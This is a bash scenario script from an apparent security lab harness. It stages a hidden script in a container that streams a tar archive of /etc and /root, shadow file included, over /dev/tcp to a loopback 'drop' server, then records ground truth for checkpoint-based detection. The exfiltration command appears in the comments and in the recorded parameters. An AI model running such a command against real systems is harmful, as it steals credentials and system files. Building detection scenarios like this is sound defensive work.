#!/bin/bash
# Scenario tarexfil: bulk exfiltration over TCP. A bash script started later in the container
# opens /dev/tcp to a drop server on 127.103.x.y:<random high port>, sends a header line and
# streams `tar cf - /etc /root` (shadow included, ~300 KB) into the connection, then waits for
# an acknowledgement. The drop server reads the header and stops reading with a small receive
# buffer: the archive waits in the container's send queue when the checkpoint is taken.
# Usage: lab/scenarios/tarexfil.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init tarexfil "$@"

DROP="$(lab_addr 103):$(lab_port 20000 60000)"
TAG=$(lab_hex 4)
SCRIPT=/var/tmp/.bk-$(lab_hex 2)
lab_template "$SPEC/bk.sh" "$WORK/bk.sh" "DROP=$DROP" "DROP_ADDR=${DROP%:*}" "DROP_PORT=${DROP#*:}" "TAG=$TAG"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read line --rcvbuf 4096 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --hostname backup-agent -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/bk.sh" "$SCRIPT" 0700
lab_exec_bg "bash $SCRIPT"
lab_wait "drop server read the header" 15 lab_json "$WORK/peer-drop.json" 'd["sessions"] and d["sessions"][0].get("first_line")'
lab_wait_txq "$DROP" 200000 20
lab_wait "tar finished writing" 10 lab_no_proc tar

lab_finish "$SCRIPT"

lab_kv_json "$WORK/params.json" "drop=$DROP" "header_tag=$TAG" "script_path=$SCRIPT" \
    "command=tar cf - /etc /root >/dev/tcp/${DROP%:*}/${DROP#*:}" "archived:=$(lab_json_list /etc /root)"
lab_facts --conn "exfil=$DROP"
lab_truth --description "bulk exfiltration: bash $SCRIPT streams tar of /etc and /root to $DROP, which stopped reading" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
